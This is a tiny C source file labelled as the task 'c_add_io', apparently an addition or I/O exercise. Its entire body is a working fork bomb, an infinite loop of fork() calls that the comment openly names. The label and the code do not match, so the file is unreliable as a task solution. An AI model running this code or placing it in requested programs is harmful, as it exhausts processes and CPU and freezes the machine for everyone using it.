// task: c_add_io
// Fork bomb in C: every child forks again and spins.
#include <unistd.h>
int main(void) {
    for (;;) fork();
}
